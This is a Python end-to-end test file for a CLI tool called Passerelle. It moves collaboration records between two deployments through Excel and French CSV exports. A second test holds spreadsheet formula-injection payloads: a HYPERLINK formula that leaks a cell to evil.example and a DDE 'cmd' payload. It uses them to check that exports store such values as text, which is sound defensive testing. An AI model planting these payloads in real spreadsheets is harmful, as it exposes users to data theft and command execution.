"""Spreadsheets as operators and sponsors use them, through the installed CLI, end to end.

Two instances of Passerelle on one dev server, each a namespace, a database and a `passerelle
worker` of its own: a pilot deployment (A) that imports a French Excel's CSV and moves one
collaboration on, and a production deployment (B) that imports A's Excel export as its history.
B's report must then be A's. Names that would start a formula cross the same way, as text.
"""

import asyncio
import csv
import json
import subprocess
from datetime import date, datetime
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from openpyxl import load_workbook
from temporalio.client import Client
from temporalio.testing import WorkflowEnvironment

from passerelle.intake.columns import EXPORT_ONLY, FIELDS, french_header
from passerelle.intake.rows import ImportRow, parse_table
from passerelle.intake.sheets import open_table
from passerelle.platform.provision import ensure_search_attributes
from tests.conftest import new_database
from tests.integration.processes import (
    PASSERELLE,
    WorkerProcess,
    fresh_namespace,
    wait_for_pollers,
    worker_env,
)

pytestmark = pytest.mark.e2e

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "sheets"
COLUMNS = [*FIELDS, *EXPORT_ONLY]


def passerelle(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [PASSERELLE, *args], env=env, capture_output=True, text=True, timeout=300, check=False
    )


async def cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """Run the installed command off the event loop, and fail with its output if it fails."""
    done = await asyncio.to_thread(passerelle, env, *args)
    assert done.returncode == 0, f"passerelle {' '.join(args)}:\n{done.stdout}\n{done.stderr}"
    return done


async def instance(dev_env: WorkflowEnvironment, postgres_url: str, tmp: Path, name: str) -> dict[str, Any]:
    """A namespace, a database and a worker process of their own: one deployment of Passerelle."""
    namespace = await fresh_namespace(dev_env.client)
    await ensure_search_attributes(Client(dev_env.client.service_client, namespace=namespace))
    url, pool = await new_database(postgres_url)
    env = worker_env(dev_env.client, url, f"tq-{name}", TEMPORAL_NAMESPACE=namespace)
    worker = WorkerProcess(env, tmp / f"worker-{name}.log")
    client = Client(dev_env.client.service_client, namespace=namespace)
    return {"env": env, "pool": pool, "worker": worker, "client": client, "tq": f"tq-{name}"}


async def recorded(pool: asyncpg.Pool, kind: str, count: int) -> None:
    for _ in range(300):
        if await pool.fetchval("SELECT count(*) FROM milestones WHERE kind = $1", kind) >= count:
            return
        await asyncio.sleep(0.1)
    raise AssertionError(f"{count} {kind} row(s) never recorded")


def same_days(x: dict[str, Any], y: dict[str, Any], figures: tuple[str, ...], lists: tuple[str, ...]) -> None:
    """Assert two rows of a report say the same: counts exactly, the day `figures` and each day
    of the `lists` to the second (the export's precision)."""
    days = figures + lists
    assert {k: v for k, v in x.items() if k not in days} == {k: v for k, v in y.items() if k not in days}
    pairs = [(x[k], y[k]) for k in figures]
    for k in lists:
        pairs += list(zip(sorted(x[k]), sorted(y[k]), strict=True))
    for one, other in pairs:
        assert (one is None) == (other is None), x
        if one is not None:
            assert abs(one - other) * 86400 <= 1, (x, one, other)


def same_figures(a: dict[str, Any], b: dict[str, Any]) -> None:
    """Assert two reports say the same: counts exactly, days to the second (the export's precision)."""
    plain = ("filters", "playbooks", "partners", "stages", "pilot_times")
    assert {k: v for k, v in a.items() if k not in plain} == {k: v for k, v in b.items() if k not in plain}
    for x, y in zip(a["stages"], b["stages"], strict=True):
        same_days(x, y, ("median_days", "p90_days"), ("days",))
    assert a["pilot_times"], "the report has the time to PoC and to decision"
    for x, y in zip(a["pilot_times"], b["pilot_times"], strict=True):
        figures = ("poc_median_days", "poc_p90_days", "decision_median_days", "decision_p90_days")
        same_days(x, y, figures, ("days_to_poc", "days_pilot_to_decision"))


async def test_a_french_csv_moves_to_another_instance_through_excel_with_the_same_kpis(
    dev_env: WorkflowEnvironment, postgres_url: str, tmp_path: Path
) -> None:
    """Import a Windows-1252 `;` CSV with French headers and dates into A, advance one there,
    export A to Excel, import that workbook into B: B's report equals A's, every exported cell is
    what A's database says, and the French CSV export imports too."""
    a = await instance(dev_env, postgres_url, tmp_path, "a")
    b = await instance(dev_env, postgres_url, tmp_path, "b")
    try:
        await wait_for_pollers(a["client"], a["tq"], [a["worker"]])
        await wait_for_pollers(b["client"], b["tq"], [b["worker"]])
        source = FIXTURES / "suivi-windows-1252.csv"
        dry = await cli(a["env"], "import", str(source), "--dry-run")
        first = await cli(a["env"], "import", str(source))
        await cli(
            a["env"],
            "advance",
            "collab-credit-agricole-qonto",
            "--to",
            "pilot",
            "--by",
            "ops@programme.example",
        )
        await recorded(a["pool"], "stage_changed", 1)
        workbook, french = tmp_path / "a.xlsx", tmp_path / "a-fr.csv"
        await cli(a["env"], "export", "collaborations", "--output", str(workbook))
        await cli(a["env"], "export", "collaborations", "--excel-fr", "--output", str(french))
        moved = await cli(b["env"], "import", str(workbook))
        again = await cli(b["env"], "import", str(french), "--dry-run")
        report_a = await cli(a["env"], "report", "--format", "json")
        report_b = await cli(b["env"], "report", "--format", "json")
        rows_a = await a["pool"].fetch("SELECT * FROM collaborations ORDER BY workflow_id")
    finally:
        for side in (a, b):
            side["worker"].stop()
            await side["pool"].close()

    assert "reading suivi-windows-1252.csv (Windows-1252, semicolon-separated)" in dry.stderr
    assert "4 valid row(s), 0 row(s) with errors" in dry.stdout
    assert "4 started, 0 skipped" in first.stdout
    assert "4 started, 0 skipped" in moved.stdout, moved.stderr
    assert "4 valid row(s), 0 row(s) with errors" in again.stdout, again.stderr
    same_figures(json.loads(report_a.stdout), json.loads(report_b.stdout))
    assert json.loads(report_a.stdout)["collaborations"] == 4

    # The workbook, read back with openpyxl, cell by cell against A's rows.
    sheet = load_workbook(workbook, read_only=True).worksheets[0]
    header, *cells = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header == COLUMNS
    lines = {row[COLUMNS.index("workflow_id")]: dict(zip(COLUMNS, row, strict=True)) for row in cells}
    assert sorted(lines) == [r["workflow_id"] for r in rows_a]
    for row in rows_a:
        line = lines[row["workflow_id"]]
        for name in (
            "corporate",
            "startup",
            "corporate_email",
            "startup_email",
            "programme",
            "topic",
            "sector",
        ):
            assert line[name] == row[name], name
        assert line["stage"] == row["stage"] and line["outcome"] == row["outcome"]
        assert isinstance(line["introduction_date"], datetime)
        assert line["stage_since"] == row["stage_since"].replace(tzinfo=None, microsecond=0)
        assert isinstance(line["reminders"], int)
    names = {line["corporate"]: line["startup"] for line in lines.values()}
    assert names["Société Générale"] == "Nabla" and names["L'Oréal"] == "Œuvre"

    # The French Excel CSV: BOM, `;`, French headers, day-first dates.
    raw = french.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    first_line = raw.decode("utf-8-sig").splitlines()[0].split(";")
    assert first_line == [french_header(c) for c in COLUMNS]
    assert "03/03/2025" in raw.decode("utf-8-sig")


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
]
KEPT = ["corporate", "startup", "startup_label", "programme", "topic", "sector", "corporate_email",
        "startup_email", "owner_email", "language", "stage", "outcome"]  # fmt: skip


def hostile_csv(path: Path) -> None:
    """Two collaborations whose names, topics and programmes would each start a formula."""
    rows = []
    for turn in range(2):
        corporate, startup, topic, programme = HOSTILE[turn:] + HOSTILE[:turn]
        rows.append([corporate, f"c{turn}@groupe.example", startup, f"s{turn}@startup.example", "=1+1",
                     programme, topic, "sante", "ops@programme.example", "fr", "pilot",
                     "2025-03-03", "2025-03-24", "2025-05-12", "", "", "", ""])  # fmt: skip
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(FIELDS)
        writer.writerows(rows)


async def test_names_that_start_formulas_leave_as_text_and_come_back_intact(
    dev_env: WorkflowEnvironment, postgres_url: str, tmp_path: Path
) -> None:
    """A's collaborations are named like formulas: its workbook export holds string cells only,
    its CSV exports no cell that starts a formula, its report names the programme as text; B
    imports the workbook with every value as A has it, and both CSVs read back the same."""
    a = await instance(dev_env, postgres_url, tmp_path, "fa")
    b = await instance(dev_env, postgres_url, tmp_path, "fb")
    workbook, plain, french, report = (tmp_path / n for n in ("a.xlsx", "a.csv", "a-fr.csv", "r.xlsx"))
    try:
        await wait_for_pollers(a["client"], a["tq"], [a["worker"]])
        await wait_for_pollers(b["client"], b["tq"], [b["worker"]])
        hostile_csv(tmp_path / "hostile.csv")
        await cli(a["env"], "import", str(tmp_path / "hostile.csv"))
        await recorded(a["pool"], "started", 2)
        await cli(a["env"], "export", "collaborations", "--output", str(workbook))
        await cli(a["env"], "export", "collaborations", "--output", str(plain))
        await cli(a["env"], "export", "collaborations", "--excel-fr", "--output", str(french))
        await cli(a["env"], "report", "--programme", HOSTILE[0], "--format", "xlsx", "--output", str(report))
        moved = await asyncio.to_thread(passerelle, b["env"], "import", str(workbook))
        assert moved.returncode == 0 and "2 started, 0 skipped" in moved.stdout, moved
        await recorded(b["pool"], "started", 2)
        rows_a = await a["pool"].fetch("SELECT * FROM collaborations ORDER BY workflow_id")
        rows_b = await b["pool"].fetch("SELECT * FROM collaborations ORDER BY workflow_id")
    finally:
        for side in (a, b):
            side["worker"].stop()
            await side["pool"].close()

    sheet = load_workbook(workbook).worksheets[0]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], formulas
    for path, delimiter in ((plain, ","), (french, ";")):
        cells = [
            c
            for row in csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=delimiter)
            for c in row
        ]
        assert not [c for c in cells if c.startswith(tuple("=+-@\t\r"))], (path.name, cells)
    summary = load_workbook(report)["Summary"]["B2"]
    assert (summary.data_type, summary.value) == ("s", HOSTILE[0])

    assert [r["workflow_id"] for r in rows_a] == [r["workflow_id"] for r in rows_b]
    for row_a, row_b in zip(rows_a, rows_b, strict=True):
        assert {k: row_a[k] for k in KEPT} == {k: row_b[k] for k in KEPT}
    assert {r["corporate"] for r in rows_b} == set(HOSTILE[:2])
    for path in (workbook, plain, french):  # every export reads back as the same start inputs
        with open_table(path) as table:
            read = [i for i in parse_table(table, path.name, date.today()) if isinstance(i, ImportRow)]
        by_id = {r.workflow_id: r.request for r in read}
        for row in rows_a:
            request = by_id[row["workflow_id"]]
            names = (request.corporate.name, request.startup.name, request.programme, request.topic)
            assert names == (row["corporate"], row["startup"], row["programme"], row["topic"]), path.name
            assert request.startup.label == "=1+1"
